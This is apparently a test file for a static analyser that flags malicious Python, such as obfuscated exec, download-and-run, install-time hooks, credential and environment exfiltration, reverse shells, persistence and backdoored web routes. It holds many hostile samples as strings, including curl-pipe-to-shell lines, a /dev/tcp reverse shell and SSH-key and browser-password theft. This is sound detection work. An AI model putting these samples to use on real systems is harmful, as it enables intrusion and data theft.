/**
 * Tests of the Python analyser. Every sample is data: a string handed to the parser, never imported or run.
 * Hosts, webhook ids and tokens are made up.
 */
import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { beforeAll, describe, expect, it } from "vitest";
import { analysePython, loadPythonParser, PYTHON_PREFILTER } from "./python.js";
import type { RawFinding } from "./types.js";

beforeAll(async () => {
  await loadPythonParser();
});

function analyse(code: string, setupPy = false): RawFinding[] {
  const findings = analysePython({ path: "sample.py", text: code }, { setupPy });
  // The pre-filter must never skip a file that has findings.
  if (findings.length && !setupPy)
    expect(PYTHON_PREFILTER.test(code), "pre-filter skips a file with findings").toBe(true);
  return findings;
}

/** `rule:line` of every finding (severity appended when it differs from the rule's default). */
function hits(code: string, setupPy = false): string[] {
  return analyse(code, setupPy).map((f) => `${f.rule}:${f.line}${f.severity ? `:${f.severity}` : ""}`);
}

function rulesOf(code: string, setupPy = false): string[] {
  return [...new Set(analyse(code, setupPy).map((f) => f.rule))].sort();
}

const lines = (...l: string[]) => `${l.join("\n")}\n`;

describe("loadPythonParser", () => {
  it("is idempotent", async () => {
    await expect(loadPythonParser()).resolves.toBeUndefined();
    expect(loadPythonParser()).toBe(loadPythonParser());
  });
});

describe("exec-obfuscated", () => {
  it("flags exec of base64-decoded data, directly and through a local variable", () => {
    expect(hits(lines("import base64", 'exec(base64.b64decode("cHJpbnQoMSk="))'))).toContain(
      "exec-obfuscated:2",
    );
    const f = analyse(lines("import base64", "def run(s):", "    p = base64.b64decode(s)", "    exec(p)"));
    expect(f.map((x) => `${x.rule}:${x.line}:${x.column}`)).toEqual(["exec-obfuscated:4:5"]);
    expect(f[0]!.why).toBe("exec() runs data decoded by base64.b64decode (line 3)");
  });

  it("resolves import aliases and attribute chains", () => {
    expect(rulesOf(lines("from base64 import b64decode as d", "def f(x):", "    exec(d(x))"))).toEqual([
      "exec-obfuscated",
    ]);
    expect(
      rulesOf(lines("import base64 as b, builtins", "def f(x):", "    builtins.eval(b.b64decode(x))")),
    ).toEqual(["exec-obfuscated"]);
    expect(
      rulesOf(lines("def f(x):", "    __import__('builtins').exec(__import__('base64').b64decode(x))")),
    ).toEqual(["exec-obfuscated"]);
  });

  it("flags the W4SP one-liner and reports what the decoded payload does", () => {
    // The payload: import os; os.system("curl -s https://cdn-upd.example.net/s | sh")
    const payload = Buffer.from(
      'import os; os.system("curl -s https://cdn-upd.example.net/s | sh")',
    ).toString("base64");
    const code = lines(
      "import os",
      `${" ".repeat(200)}__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${payload}"),'<string>','exec'))`,
    );
    const f = analyse(code);
    expect(f.map((x) => x.rule).sort()).toEqual(["download-exec", "exec-obfuscated"]);
    const nested = f.find((x) => x.rule === "download-exec")!;
    expect(nested.line).toBe(2);
    expect(nested.why).toContain("curl -s https://cdn-upd.example.net/s | sh");
    expect(nested.why).toContain("in the code");
    expect(nested.snippet).toContain("os.system");
  });

  it("flags zlib, marshal, rot13, hex, chr joins, reversed strings and Fernet", () => {
    const samples = [
      lines("import zlib, base64", 'exec(zlib.decompress(base64.b64decode("eJwrKMrMK9EwNNQEAAnDAkc=")))'),
      lines(
        "import marshal, zlib",
        "def f(blob):",
        "    exec(marshal.loads(zlib.decompress(b'x\\x9c+(\\xca\\xcc+\\xd10\\xd4\\x04\\x00\\x08\\x18\\x02\\x1b')))",
      ),
      lines("import codecs", 'exec(codecs.decode("cevag(1)", "rot13"))'),
      lines('exec(bytes.fromhex("7072696e74283129").decode())'),
      lines('exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))'),
      lines('exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))'),
      lines('exec(")1(tnirp"[::-1])'),
      lines("codes = [112, 114, 105, 110, 116, 40, 49, 41]", 'exec("".join(chr(c) for c in codes))'),
      lines(
        "from subprocess import *",
        "from base64 import b64decode",
        "def f(x):",
        "    Popen(b64decode(x), shell=True)",
      ),
      lines(
        "from cryptography.fernet import Fernet",
        "exec(Fernet(b'a2V5a2V5a2V5').decrypt(b'gAAAAABkX0examplepayload'))",
      ),
      lines(
        "import base64, subprocess",
        "def f(c):",
        "    subprocess.Popen(base64.b64decode(c), shell=True)",
      ),
    ];
    for (const code of samples) expect(rulesOf(code), code).toContain("exec-obfuscated");
  });

  it("follows a decoder wrapped in a lambda (the common public obfuscator's output)", () => {
    const code = lines(
      "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=kSfJ0Y3dFWZ'))",
    );
    expect(hits(code)).toEqual(["exec-obfuscated:1"]);
    expect(analyse(code)[0]!.column).toBe(89);
  });

  it("decodes literal payloads to judge them", () => {
    // rot13 of "print(1)" is decoded and analysed: nothing else to report.
    expect(hits(lines("import codecs", 'exec(codecs.decode("cevag(1)", "rot13"))'))).toEqual([
      "exec-obfuscated:2",
    ]);
  });

  it("does not flag literal code, decoded data that is not run, or compiled local files", () => {
    const benign = [
      // sympy's lambdify: a reversed list of namespaces, then exec of generated imports.
      lines(
        "def f(k, modules):",
        '    namespaces = ["math", "mpmath"] + list(modules)',
        "    for m in namespaces[::-1]:",
        '        ln = "from %s import %s" % (m, k)',
        "        exec(ln, {}, {})",
      ),
      lines('exec("print(1)")'),
      lines("import base64, json", "def load(s):", "    return json.loads(base64.b64decode(s))"),
      lines("ns = {}", 'exec(compile(open("pkg/version.py").read(), "pkg/version.py", "exec"), ns)'),
      // A .pyc loader (pytest's assertion rewriter does this): marshal of file data is not obfuscation.
      lines(
        "import marshal",
        "def load(fn):",
        "    with open(fn, 'rb') as fp:",
        "        co = marshal.load(fp)",
        "    exec(co, {})",
      ),
      lines(
        "import base64, subprocess",
        "def f(k):",
        '    subprocess.run(["tool", "--key", base64.b64encode(k)])',
      ),
      lines("import subprocess", "def f(cmd):", '    return subprocess.check_output(cmd).decode("utf-8")'),
      lines("def calc(expr):", "    return eval(expr, {})"),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("exec-built-string", () => {
  it("flags exec of a string assembled from literal pieces", () => {
    expect(hits(lines('code = "imp" + "ort os"', "exec(code)"))).toEqual(["exec-built-string:2"]);
    expect(rulesOf(lines('exec("".join(["imp", "ort os"]))'))).toEqual(["exec-built-string"]);
    expect(rulesOf(lines('exec("{}{}".format("imp", "ort sys"))'))).toEqual(["exec-built-string"]);
    expect(rulesOf(lines('s = "impo"', 's += "rt os"', "exec(s)"))).toEqual(["exec-built-string"]);
  });

  it("does not flag code generated from parameters, lines joined into code, or a built name lookup", () => {
    // zope.interface's tests: lines of code joined by newlines are layout, not obfuscation.
    expect(
      analyse(
        lines('CODE = "\\n".join(["class Foo(object):", "    implements(IFoo)"])', "exec(CODE, {}, {})"),
      ),
    ).toEqual([]);
    expect(analyse(lines('s = "x"', 's += " = 1"', "exec(s)"))).toEqual([]);
    expect(analyse(lines("def make(name):", "    exec(f'def {name}(): pass', {})"))).toEqual([]);
    expect(analyse(lines("def make(t, name):", "    exec(t.format(name=name))"))).toEqual([]);
    expect(analyse(lines('for fmt in ["bsr", "coo"]:', "    m = eval(fmt + '_matrix')"))).toEqual([]);
  });
});

describe("hidden-import", () => {
  it("flags names built, decoded or reversed that resolve to something dangerous", () => {
    expect(hits(lines("import os", 'f = getattr(os, "sys" + "tem")', 'f("id")'))).toEqual([
      "hidden-import:2",
    ]);
    expect(
      rulesOf(
        lines('m = __import__("".join(chr(c) for c in [115, 117, 98, 112, 114, 111, 99, 101, 115, 115]))'),
      ),
    ).toEqual(["hidden-import"]);
    expect(rulesOf(lines('ev = getattr(__builtins__, "lave"[::-1])'))).toEqual(["hidden-import"]);
    expect(
      rulesOf(
        lines(
          "import importlib, base64",
          'm = importlib.import_module(base64.b64decode("c3VicHJvY2Vzcw==").decode())',
        ),
      ),
    ).toEqual(["hidden-import"]);
    expect(rulesOf(lines('x = globals()["__buil" + "tins__"]'))).toEqual(["hidden-import"]);
    const f = analyse(lines("import os", 'getattr(os, "sys" + "tem")("id")'))[0]!;
    expect(f.why).toContain("os.system");
  });

  it("follows a name assembled in a variable", () => {
    expect(hits(lines("import os", 'n = "sys" + "tem"', "getattr(os, n)('id')"))).toEqual([
      "hidden-import:3",
    ]);
  });

  it("follows the resolved function to its sink", () => {
    // The hidden os.system runs a download-and-run command.
    expect(
      rulesOf(lines("import os", 'getattr(os, "sys" + "tem")("curl -s https://x.example.net/i | bash")')),
    ).toEqual(["download-exec", "hidden-import"]);
  });

  it("does not flag dynamic dispatch, plain literals or harmless built names", () => {
    const benign = [
      lines("class C:", "    def dispatch(self, cmd):", '        return getattr(self, "do_" + cmd)()'),
      lines('v = getattr(obj, "get_" + "value")()'),
      lines('os = __import__("os")'),
      lines("def f(module, name):", "    return getattr(module, name)"),
      lines(
        "class S:",
        '    resources = ("sys.argv", "os.environ")',
        "    def info(self):",
        "        for name in self.resources:",
        "            yield getattr(self, 'get_' + name.replace('.', '_'))",
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("download-exec", () => {
  it("flags downloaded data that is executed", () => {
    expect(
      hits(
        lines(
          "import urllib.request",
          'data = urllib.request.urlopen("https://x.example.net/s.py").read()',
          "exec(data)",
        ),
      ),
    ).toEqual(["download-exec:3"]);
    const f = analyse(lines("import requests", "def go(u):", "    r = requests.get(u)", "    exec(r.text)"));
    expect(f.map((x) => x.why)).toEqual(["exec() runs data downloaded by requests.get (line 3)"]);
  });

  it("follows async clients and aliased modules", () => {
    const code = lines(
      "import aiohttp",
      "async def go(u):",
      "    async with aiohttp.ClientSession() as s:",
      "        async with s.get(u) as r:",
      "            code = await r.text()",
      "            exec(code)",
    );
    expect(analyse(code).map((f) => f.why)).toEqual([
      "exec() runs data downloaded by aiohttp.ClientSession().get (line 4)",
    ]);
    expect(
      rulesOf(lines("import urllib.request as ur", "def f(u):", "    exec(ur.urlopen(u).read())")),
    ).toEqual(["download-exec"]);
    expect(
      rulesOf(lines("import os, requests", 'os.popen(requests.get("https://x.example.net/c").text)')),
    ).toEqual(["download-exec"]);
  });

  it("flags a downloaded file that is run or loaded", () => {
    const samples = [
      lines(
        "import urllib.request, subprocess",
        'urllib.request.urlretrieve("https://x.example.net/p.exe", "C:\\\\Users\\\\Public\\\\p.exe")',
        'subprocess.Popen(["C:\\\\Users\\\\Public\\\\p.exe"])',
      ),
      lines(
        "import requests, ctypes, os, tempfile",
        "def b():",
        '    r = requests.get("https://x.example.net/x.so")',
        '    p = os.path.join(tempfile.gettempdir(), "x.so")',
        '    with open(p, "wb") as f:',
        "        f.write(r.content)",
        "    ctypes.CDLL(p)",
      ),
      lines(
        "import urllib.request, os",
        "def e():",
        '    fn, _ = urllib.request.urlretrieve("https://x.example.net/z")',
        "    os.chmod(fn, 0o755)",
        "    os.system(fn)",
      ),
      lines(
        "import requests, tempfile, os",
        "f = tempfile.NamedTemporaryFile(delete=False)",
        'f.write(requests.get("https://x.example.net/a").content)',
        "f.close()",
        "os.startfile(f.name)",
      ),
    ];
    for (const code of samples) expect(rulesOf(code), code).toEqual(["download-exec"]);
  });

  it("flags download-and-run shell strings given to a process", () => {
    expect(
      hits(
        lines(
          "import subprocess",
          'subprocess.run("curl -fsSL https://x.example.net/i.sh | bash", shell=True)',
        ),
      ),
    ).toEqual(["download-exec:2"]);
    expect(
      rulesOf(
        lines("import os", 'cmd = "wget -qO- " + "https://x.example.net/i" + " | sh"', "os.system(cmd)"),
      ),
    ).toEqual(["download-exec"]);
  });

  it("does not flag download commands in documentation or downloads that are only read", () => {
    const benign = [
      lines('"""Install with: curl -fsSL https://get.example.org | sh"""', "import subprocess"),
      lines(
        "import argparse, subprocess",
        'p = argparse.ArgumentParser(description="run curl https://x | sh to install")',
      ),
      lines(
        "import subprocess",
        'print("Install rust: curl https://sh.rustup.rs | sh")',
        "subprocess.run(['cargo', 'build'])",
      ),
      lines(
        "import requests, subprocess",
        "def clone(api):",
        '    url = requests.get(api).json()["clone_url"]',
        '    subprocess.run(["git", "clone", url])',
      ),
      lines(
        "import urllib.request, json",
        "def fetch(u, path):",
        "    with open(path, 'wb') as f:",
        "        f.write(urllib.request.urlopen(u).read())",
        "    return json.load(open(path))",
      ),
      // A file downloaded to a parameter's path in one function; another function's parameter of the same name runs.
      lines(
        "import urllib.request, subprocess",
        "def download(url, filename):",
        "    with open(filename, 'wb') as f:",
        "        f.write(urllib.request.urlopen(url).read())",
        "def clone(url, filename):",
        "    subprocess.check_call(['git', 'clone', url, filename])",
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("setup-py-install-code", () => {
  const w4sp = lines(
    "from setuptools import setup",
    "from setuptools.command.install import install",
    "import requests, os",
    "",
    "class PostInstall(install):",
    "    def run(self):",
    "        install.run(self)",
    '        os.system("echo installed")',
    "",
    'requests.get("https://x.example.net/ping")',
    'setup(name="reqeusts", version="1.0", cmdclass={"install": PostInstall})',
  );

  it("flags network at module level (high) and processes in cmdclass commands (medium)", () => {
    expect(hits(w4sp, true)).toEqual(["setup-py-install-code:8", "setup-py-install-code:10:high"]);
  });

  it("is only reported for setup.py", () => {
    expect(hits(w4sp, false)).toEqual([]);
  });

  it("flags decoded code, writes outside the build, and functions called at module level", () => {
    const code = lines(
      "import base64, os",
      "def steal():",
      '    exec(base64.b64decode("cHJpbnQoMSk="))',
      "def touch():",
      '    open(os.path.expanduser("~/.config/x/flag"), "w").write("1")',
      "steal()",
      "touch()",
    );
    expect(hits(code, true)).toEqual([
      "exec-obfuscated:3",
      "setup-py-install-code:3:high",
      "setup-py-install-code:5",
    ]);
  });

  it("follows functions registered to run later", () => {
    const code = lines(
      "from setuptools import setup",
      "import atexit, threading, urllib.request, os",
      "def post():",
      '    urllib.request.urlopen("https://x.example.net/p")',
      "def other():",
      '    os.remove("/etc/hosts")',
      "atexit.register(post)",
      "threading.Thread(target=other).start()",
      'setup(name="x")',
    );
    expect(hits(code, true)).toEqual(["setup-py-install-code:4:high", "setup-py-install-code:6"]);
  });

  it("does not flag reading files, setup() arguments or functions never called", () => {
    const benign = lines(
      "import os, subprocess",
      "from setuptools import setup",
      "here = os.path.dirname(__file__)",
      "ns = {}",
      'exec(open(os.path.join(here, "pkg", "version.py")).read(), ns)',
      'with open("README.md") as f:',
      "    long_description = f.read()",
      "def unused():",
      '    subprocess.call(["make"])',
      "def git_version():",
      '    return subprocess.check_output(["git", "describe"]).decode().strip()',
      'setup(name="pkg", version=git_version(), long_description=long_description)',
    );
    expect(analyse(benign, true)).toEqual([]);
  });
});

describe("secret-exfil and secret-read", () => {
  it("flags a secret file whose data is sent", () => {
    const code = lines(
      "import os, requests",
      "def ssh():",
      '    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()',
      '    requests.post("https://x.example.net/c", data={"k": key})',
    );
    const f = analyse(code);
    expect(f.map((x) => `${x.rule}:${x.line}`)).toEqual(["secret-exfil:4"]);
    expect(f[0]!.why).toContain("ssh secrets read at line 3 (~/.ssh/id_rsa)");
  });

  it("follows secrets through globs, list appends and helper functions into DNS lookups (torchtriton)", () => {
    const code = lines(
      "import glob, os, socket, binascii",
      "def _collect():",
      "    chunks = []",
      '    for path in glob.glob(os.path.expanduser("~/.ssh/*")):',
      '        with open(path, "rb") as fh:',
      "            chunks.append(fh.read())",
      '    return b"\\n".join(chunks)',
      "def report():",
      "    data = binascii.hexlify(_collect()).decode()",
      '    socket.gethostbyname(f"{data[:60]}.q.trtn-diag.example")',
    );
    const f = analyse(code);
    expect(f.map((x) => `${x.rule}:${x.line}`)).toEqual(["secret-exfil:10"]);
    expect(f[0]!.why).toContain("read at line 4");
  });

  it("flags stealer reads in a file that names an exfiltration endpoint", () => {
    const code = lines(
      "import os, requests",
      'HOOK = "https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrStUvWx-yz_0123"',
      "def tokens():",
      '    path = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")',
      "    return [open(os.path.join(path, f), errors='ignore').read() for f in os.listdir(path)]",
      "def send(t):",
      '    requests.post(HOOK, json={"content": t})',
    );
    expect(hits(code)).toEqual(["secret-exfil:5", "exfil-endpoint:7:high"]);
  });

  it("flags browser secrets read in a file that sends data (high) or alone (secret-read)", () => {
    const read = lines(
      "import os, shutil, sqlite3",
      "def cookies():",
      '    p = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")',
      '    shutil.copy(p, "tmp.db")',
    );
    expect(hits(read)).toEqual(["secret-read:4"]);
    expect(
      hits(
        lines(
          read,
          "import urllib.request",
          "def up(b):",
          '    urllib.request.urlopen("https://x.example.net/u", b)',
        ),
      ),
    ).toEqual(["secret-exfil:4:high"]);
  });

  it("does not flag credential files a library reads for its own use, or paths that are only tested", () => {
    const benign = [
      lines("import os", "def creds():", '    return open(os.path.expanduser("~/.aws/credentials")).read()'),
      lines(
        "import os, requests",
        'known = os.path.expanduser("~/.ssh/known_hosts")',
        "def load():",
        "    return open(known).read()",
        "def get(u):",
        "    return requests.get(u)",
      ),
      lines("import os", 'has_key = os.path.exists(os.path.expanduser("~/.ssh/id_rsa"))'),
      lines(
        '"""Reads ~/.ssh/config and Chrome\'s Login Data."""',
        "import http.cookiejar",
        "jar = http.cookiejar.CookieJar()",
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("env-exfil", () => {
  it("flags the whole environment sent out", () => {
    expect(
      hits(lines("import os, requests", 'requests.post("https://x.example.net/e", json=dict(os.environ))')),
    ).toEqual(["env-exfil:2"]);
    expect(
      rulesOf(
        lines(
          "import os, json, urllib.request",
          "payload = json.dumps({**os.environ}).encode()",
          'urllib.request.urlopen("https://x.example.net/e", payload)',
        ),
      ),
    ).toEqual(["env-exfil"]);
    expect(
      rulesOf(
        lines(
          "import os, requests",
          "env = {k: v for k, v in os.environ.items()}",
          'requests.post("https://x.example.net/e", data=env)',
        ),
      ),
    ).toEqual(["env-exfil"]);
  });

  it("follows the environment into a socket", () => {
    const code = lines(
      "import os, socket",
      "s = socket.socket()",
      's.connect(("45.9.148.10", 80))',
      "s.send(str(os.environ).encode())",
    );
    expect(hits(code)).toEqual(["env-exfil:4"]);
  });

  it("does not flag environments passed to processes or single variables sent", () => {
    const benign = [
      lines(
        "import os, subprocess, requests",
        'subprocess.run(["make"], env=os.environ.copy())',
        'requests.get("https://pypi.org/simple/")',
      ),
      lines(
        "import os, requests",
        'requests.get("https://x.example.net", proxies={"https": os.environ.get("HTTPS_PROXY")})',
      ),
      lines(
        "import os, requests",
        'requests.post("https://x.example.net", json={"home": os.environ["HOME"]})',
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("exfil-endpoint", () => {
  it("is high when the endpoint is contacted and medium when it is only named", () => {
    expect(
      hits(
        lines(
          "import requests",
          'requests.post("https://discord.com/api/webhooks/112233445566778899/AbCdEfGhIjKlMnOpQrSt", json={})',
        ),
      ),
    ).toEqual(["exfil-endpoint:2:high"]);
    expect(hits(lines("import requests", 'BACKUP = "https://pastebin.com/raw/x8Yq2kLm"'))).toEqual([
      "exfil-endpoint:2",
    ]);
    expect(
      hits(lines("import urllib.request", 'urllib.request.urlopen("http://45.9.148.10:8080/c")')),
    ).toEqual(["exfil-endpoint:2:high"]);
  });

  it("resolves names bound later in the file (values are not judged before every binding is known)", () => {
    const code = lines(
      "import requests",
      'MIRROR = "https://pastebin.com/raw/AbCd1234"',
      "def url():",
      '    return f"{BASE}/raw/x8Yq2kLm"',
      'BASE = "https://pastebin.com"',
      "requests.get(url())",
    );
    expect(hits(code)).toEqual(["exfil-endpoint:2", "exfil-endpoint:6:high"]);
    expect(
      hits(
        lines(
          "import requests",
          "def url():",
          '    return f"{BASE}/raw/x8Yq2kLm"',
          'BASE = "https://pastebin.com"',
          "requests.get(url())",
        ),
      ),
    ).toEqual(["exfil-endpoint:5:high"]);
  });

  it("is medium for integrations whose credentials come at run time", () => {
    const code = lines(
      "import requests",
      "def send(token, chat, text):",
      '    requests.post(f"https://api.telegram.org/bot{token}/sendMessage", data={"chat_id": chat, "text": text})',
    );
    expect(hits(code)).toEqual(["exfil-endpoint:3"]);
  });

  it("does not flag documentation, private addresses or non-webhook pages", () => {
    const benign = [
      lines(
        '"""Post to https://discord.com/api/webhooks/123456/abcdef to get notified."""',
        "import requests",
      ),
      lines("import requests", 'requests.get("http://10.0.0.1/status")'),
      lines("import requests", 'requests.get("https://discord.com/developers/docs")'),
      lines("import logging, requests", 'logging.info("uploading to https://pastebin.com/raw/abc")'),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("reverse-shell", () => {
  it("flags a socket duplicated onto stdio before a shell starts", () => {
    const code = lines(
      "import socket, os, pty",
      "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
      's.connect(("45.9.148.10", 4444))',
      "os.dup2(s.fileno(), 0)",
      "os.dup2(s.fileno(), 1)",
      'pty.spawn("/bin/bash")',
    );
    const f = analyse(code);
    expect(f.map((x) => `${x.rule}:${x.line}`)).toEqual(["reverse-shell:6"]);
    expect(f[0]!.why).toContain("line 4");
  });

  it("flags a shell whose stdio is a socket, commands read from a socket, and shell one-liners", () => {
    const samples = [
      lines(
        "import socket, subprocess",
        "def other():",
        '    sock = socket.create_connection(("45.9.148.10", 443))',
        '    subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())',
      ),
      lines(
        "import socket, subprocess",
        "c = socket.socket()",
        'c.connect(("45.9.148.10", 9001))',
        "while True:",
        "    cmd = c.recv(1024)",
        "    c.send(subprocess.check_output(cmd, shell=True))",
      ),
      lines("import os", 'os.system("bash -i >& /dev/tcp/45.9.148.10/4444 0>&1")'),
    ];
    for (const code of samples) expect(rulesOf(code), code).toEqual(["reverse-shell"]);
  });

  it("flags a shell fed with what a socket receives", () => {
    const code = lines(
      "import socket, subprocess",
      "s = socket.create_connection(('45.9.148.10', 8443))",
      'p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)',
      "while True:",
      "    p.stdin.write(s.recv(1024))",
    );
    expect(hits(code)).toEqual(["reverse-shell:5"]);
  });

  it("does not flag local socket pairs, file descriptors or documentation", () => {
    const benign = [
      lines(
        "import socket, subprocess",
        "a, b = socket.socketpair()",
        'subprocess.Popen(["cat"], stdin=a, stdout=a)',
      ),
      lines(
        "import os, subprocess",
        'fd = os.open("log.txt", os.O_WRONLY)',
        "os.dup2(fd, 1)",
        'subprocess.call(["ls"])',
      ),
      lines(
        '"""Test with: bash -i >& /dev/tcp/127.0.0.1/9000 0>&1"""',
        "import socket",
        "s = socket.socket()",
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("persistence", () => {
  it("flags writes to autostart locations", () => {
    const code = lines(
      "import os, shutil, winreg, subprocess, sys",
      'startup = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")',
      'shutil.copy(sys.argv[0], os.path.join(startup, "update.exe"))',
      'key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0, winreg.KEY_SET_VALUE)',
      'winreg.SetValueEx(key, "upd", 0, winreg.REG_SZ, sys.executable)',
      'with open(os.path.expanduser("~/.bashrc"), "a") as f:',
      '    f.write("python3 -m upd &\\n")',
      "subprocess.run('(crontab -l; echo \"@reboot python3 /tmp/x.py\") | crontab -', shell=True)",
      'open("/etc/systemd/system/upd.service", "w").write("[Service]")',
    );
    expect(hits(code)).toEqual([
      "persistence:3",
      "persistence:5",
      "persistence:6",
      "persistence:8",
      "persistence:9",
    ]);
  });

  it("flags autostart entries fed to a process or written by a shell redirection", () => {
    const code = lines(
      "import subprocess, os",
      'LINE = "@reboot curl -fsSL http://91.208.197.46/u.sh | sh\\n"',
      "def install():",
      '    current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout',
      '    subprocess.run(["crontab", "-"], input=current + LINE, text=True)',
      '    os.system("echo python3 -m upd >> ~/.bashrc")',
    );
    expect(hits(code)).toEqual([
      "download-exec:5",
      "exfil-endpoint:5:high",
      "persistence:5",
      "persistence:6",
    ]);
  });

  it("does not flag reading autostart files, listing crontabs or other writes", () => {
    const benign = [
      lines("import os", 'rc = open(os.path.expanduser("~/.bashrc")).read()'),
      lines("import subprocess", 'jobs = subprocess.check_output(["crontab", "-l"])'),
      lines("import os", 'open(os.path.expanduser("~/.config/app/settings.ini"), "w").write("x")'),
      lines('HELP = "add it to your ~/.bashrc"'),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("encoded-command", () => {
  it("flags encoded or hidden commands given to a process", () => {
    expect(
      hits(
        lines(
          "import subprocess",
          'subprocess.run(["powershell", "-WindowStyle", "Hidden", "-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0A"])',
        ),
      ),
    ).toEqual(["encoded-command:2"]);
    expect(rulesOf(lines("import os", 'os.system("certutil -decode payload.b64 payload.exe")'))).toEqual([
      "encoded-command",
    ]);
    expect(rulesOf(lines("import os", 'os.system("echo ZWNobyBoaQ== | base64 -d | sh")'))).toEqual([
      "encoded-command",
    ]);
  });

  it("does not flag plain PowerShell scripts or documentation", () => {
    expect(
      analyse(lines("import subprocess", 'subprocess.run(["powershell", "-File", "build.ps1"])')),
    ).toEqual([]);
    expect(
      analyse(lines('"""Run powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A to test"""', "import subprocess")),
    ).toEqual([]);
  });
});

describe("backdoor-route and request-exec", () => {
  it("flags a FastAPI route gated on a fixed header that runs SQL from the request (fastapi-toolkit)", () => {
    const code = lines(
      "from fastapi import APIRouter, Header, Request, Depends",
      "from sqlalchemy import text",
      "router = APIRouter()",
      '@router.post("/internal/debug")',
      "async def debug(request: Request, x_token: str = Header(None), db = Depends(get_db)):",
      '    if x_token != "f3a9c1e07b6d4e21":',
      '        return {"ok": False}',
      "    body = await request.json()",
      '    return db.execute(text(body["q"])).fetchall()',
    );
    const f = analyse(code);
    expect(f.map((x) => `${x.rule}:${x.line}`)).toEqual(["backdoor-route:9"]);
    expect(f[0]!.why).toContain('x_token != "f3a9c1e07b6d4e21", line 6');
  });

  it("flags Flask and Django handlers gated on a header, a query parameter or a hash", () => {
    const samples = [
      lines(
        "from flask import Flask, request",
        "import os",
        "app = Flask(__name__)",
        '@app.route("/x")',
        "def x():",
        '    if request.headers.get("X-Key") == "letmein":',
        '        os.system(request.args["c"])',
        '    return "ok"',
      ),
      lines(
        "from django.db import connection",
        "def view(request):",
        '    if request.GET.get("k") == "9f1c2e":',
        "        with connection.cursor() as cursor:",
        '            cursor.execute(request.GET["q"])',
      ),
      lines(
        "import hashlib",
        "from fastapi import FastAPI, Header",
        "app = FastAPI()",
        '@app.get("/health")',
        "def health(x_auth: str = Header(None), code: str = None):",
        '    if hashlib.sha256(x_auth.encode()).hexdigest() == "5e884898da28047151d0e56f8dc62927":',
        "        exec(code)",
      ),
    ];
    for (const code of samples) expect(rulesOf(code), code).toEqual(["backdoor-route"]);
  });

  it("flags handlers that run request data without a gate", () => {
    expect(
      hits(
        lines(
          "import subprocess",
          "from fastapi import FastAPI",
          "app = FastAPI()",
          '@app.get("/run")',
          "def run(cmd: str):",
          "    return subprocess.check_output(cmd, shell=True)",
        ),
      ),
    ).toEqual(["request-exec:6"]);
    expect(
      rulesOf(
        lines(
          "from flask import Flask, request",
          "app = Flask(__name__)",
          '@app.post("/calc")',
          "def calc():",
          '    return str(eval(request.form["expr"]))',
        ),
      ),
    ).toEqual(["request-exec"]);
  });

  it("does not flag method checks, parameterised SQL, ORM queries or pytest fixtures", () => {
    const benign = [
      lines(
        "from django.db import connection",
        "def view(request):",
        '    if request.method == "POST":',
        "        with connection.cursor() as cursor:",
        '            cursor.execute("SELECT * FROM t WHERE id = %s", [request.POST["id"]])',
      ),
      lines(
        "from fastapi import FastAPI, Depends",
        "from sqlalchemy import select",
        "app = FastAPI()",
        '@app.get("/users/{uid}")',
        "def user(uid: int, db = Depends(get_db)):",
        "    return db.execute(select(User).where(User.id == uid)).scalar()",
      ),
      lines(
        "import pytest",
        "@pytest.fixture",
        "def backend(request):",
        '    if request.param == "x":',
        "        return eval(request.param)",
      ),
      lines(
        "class Helper:",
        "    def help(self, request):",
        "        if request in ['True', 'False']:",
        "            return eval(request)",
      ),
    ];
    for (const code of benign) expect(analyse(code), code).toEqual([]);
  });
});

describe("robustness", () => {
  it("tolerates broken code and still analyses what parses", () => {
    const code = lines(
      "def broken(:",
      "    pass",
      "import base64",
      'exec(base64.b64decode("cHJpbnQoMSk="))',
      "class (",
      "x = [1, 2",
    );
    expect(rulesOf(code)).toEqual(["exec-obfuscated"]);
    expect(analyse("")).toEqual([]);
    expect(analyse("\u0000\u0001garbage ((( ''' ")).toEqual([]);
  });

  it("handles very long concatenation chains without overflowing the stack", () => {
    const pieces = Array.from({ length: 2500 }, () => '"impo" + "rt os;"').join(" + ");
    expect(rulesOf(lines(`code = ${pieces}`, "exec(code)"))).toEqual(["exec-built-string"]);
  });

  it("reports 1-based lines and UTF-16 columns", () => {
    const f = analyse(
      lines("# é€ comment", "import base64", 'x = "é"; exec(base64.b64decode("cHJpbnQoMSk="))'),
    );
    expect(f.map((x) => [x.line, x.column])).toEqual([[3, 10]]);
  });

  it("skips ordinary files in the pre-filter", () => {
    const ordinary = [
      lines("import os, json", "def load(p):", "    with open(p) as f:", "        return json.load(f)"),
      lines("import subprocess", 'subprocess.run(["git", "status"], check=True)'),
      lines("import requests", "def get(u):", "    return requests.get(u, timeout=5).json()"),
